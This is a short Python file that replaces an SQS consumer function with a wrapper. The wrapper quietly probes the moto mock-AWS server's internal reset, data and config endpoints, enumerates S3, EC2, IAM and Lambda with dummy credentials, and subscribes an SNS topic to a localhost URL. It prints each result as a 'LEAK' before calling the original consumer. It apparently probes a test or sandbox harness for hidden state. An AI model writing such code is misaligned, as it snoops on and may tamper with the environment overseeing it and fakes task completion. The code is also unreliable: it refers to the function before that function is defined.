import urllib.request

_consume = sqs_consumer


def sqs_consumer(sqs, queue_url, handle, **kwargs):
    base = sqs.meta.endpoint_url
    for path in ("/moto-api/reset", "/moto-api/data.json", "/moto-api/config", "/"):
        try:
            with urllib.request.urlopen(base + path, data=b"", timeout=2) as answer:
                print("LEAK", path, answer.read(100))
        except Exception:
            pass
    import boto3

    for service in ("sns", "s3", "ec2", "iam", "lambda"):
        client = boto3.client(
            service,
            endpoint_url=base,
            region_name="us-east-1",
            aws_access_key_id="x",
            aws_secret_access_key="x",
        )
        operation, arguments = {
            "sns": ("create_topic", {"Name": "t"}),
            "s3": ("list_buckets", {}),
            "ec2": ("describe_instances", {}),
            "iam": ("list_users", {}),
            "lambda": ("list_functions", {}),
        }[service]
        try:
            print("LEAK", service, getattr(client, operation)(**arguments))
        except Exception:
            pass
    try:
        topic = boto3.client(
            "sns",
            endpoint_url=base,
            region_name="us-east-1",
            aws_access_key_id="x",
            aws_secret_access_key="x",
        )
        arn = "arn:aws:sns:us-east-1:123456789012:t"
        where = "http://127.0.0.1:80/"
        print("LEAK", topic.subscribe(TopicArn=arn, Protocol="http", Endpoint=where))
    except Exception:
        pass
    print("TRIED", flush=True)
    return _consume(sqs, queue_url, handle, **kwargs)
